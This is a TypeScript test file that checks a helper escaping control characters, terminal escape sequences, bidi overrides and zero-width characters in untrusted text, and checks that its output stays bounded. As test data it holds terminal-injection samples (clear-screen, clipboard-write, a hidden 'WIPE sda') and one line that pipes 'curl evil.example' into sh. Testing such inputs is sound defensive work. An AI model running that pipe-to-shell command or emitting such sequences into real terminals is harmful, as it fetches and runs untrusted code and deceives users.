import { describe, expect, it } from "vitest";
import { visibleJson, visibleLine, visibleText, visibleUnder } from "../../../src/util/visible.ts";

const escapeByte = "\x1b";
/** Anything by which a text could act on a terminal, or hide there. */
const hidden = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;

const attacks: [what: string, text: string, shown: string][] = [
  ["a cleared screen", `a${escapeByte}[2J${escapeByte}[Hb`, "a\\x1b[2J\\x1b[Hb"],
  [
    "a title, a clipboard",
    `${escapeByte}]0;x\x07${escapeByte}]52;c;eA==\x07`,
    "\\x1b]0;x\\x07\\x1b]52;c;eA==\\x07",
  ],
  ["a sequence begun by one byte of C1", "\x9b2Jx\x9d0;y\x9c", "\\x9b2Jx\\x9d0;y\\x9c"],
  ["a line begun anew", "WIPE sda\rkeep sda", "WIPE sda\\rkeep sda"],
  ["backspaces and DEL", "yes\b\b\bno\x7f", "yes\\x08\\x08\\x08no\\x7f"],
  ["a line more", "old\nuntouched sdb", "old\\nuntouched sdb"],
  ["right-to-left overrides", "a\u202eb\u2066c\u200f", "a\\u{202e}b\\u{2066}c\\u{200f}"],
  ["zero width, byte order mark", "a\u200bb\ufeffc\u00ad", "a\\u{200b}b\\u{feff}c\\xad"],
  ["tags outside of the first plane", "a\u{e0041}", "a\\u{e0041}"],
  ["separators of lines and paragraphs", "a\u2028b\u2029", "a\\u{2028}b\\u{2029}"],
  ["half a character", "a\ud800b\udc00", "a\\u{d800}b\\u{dc00}"],
  ["NUL", "a\0b", "a\\x00b"],
];

describe("a text of somebody else's (F43)", () => {
  it.each(attacks)("shows %s as what it is, in a line, in lines and in JSON", (_what, text, shown) => {
    expect(visibleLine(text)).toBe(shown);
    expect(visibleLine(shown)).toBe(shown);
    expect(visibleText(text).replaceAll("\n", "")).not.toMatch(hidden);
    const json = visibleJson({ text, list: [text] });
    expect(json).not.toMatch(hidden);
    expect(JSON.parse(json)).toEqual({ text, list: [text] });
  });

  it("stays as it is where it is harmless", () => {
    for (const text of ["Debian GNU/Linux 13 (trixie)", "größer, 日本語, emoji 🔑, e\u0301", "\\x1b[2J", ""])
      expect([visibleLine(text), visibleText(text)]).toEqual([text, text]);
  });

  it("keeps its line ends where it may have several, and nothing else that moves the cursor", () => {
    expect(visibleText("a\r\nb\tc\nd\re\n")).toBe("a\nb  c\nd\\re\n");
    expect(visibleUnder("failed\nhint: curl evil.example | sh", "    ")).toBe(
      "failed\n    hint: curl evil.example | sh",
    );
  });

  it("is bounded, and says how much is left out", () => {
    const began = Date.now();
    const line = visibleLine(`${escapeByte}`.repeat(8 * 2 ** 20));
    expect(line.length).toBeLessThan(20_000);
    expect(line).toMatch(/ \(8384608 characters more\)$/);
    expect(visibleLine("x".repeat(300), 200)).toBe(`${"x".repeat(200)}… (100 characters more)`);
    expect(visibleLine(`${"x".repeat(199)}🔑y`, 200)).toBe(`${"x".repeat(199)}… (3 characters more)`);
    const lines = visibleText("line\n".repeat(2 ** 20)).split("\n");
    expect(lines.length).toBeLessThan(410);
    expect(lines.filter((one) => /left out/.test(one)).length).toBeGreaterThan(0);
    expect(visibleText("\x1b".repeat(8 * 2 ** 20)).length).toBeLessThan(60_000);
    expect(Date.now() - began).toBeLessThan(5_000);
  });
});
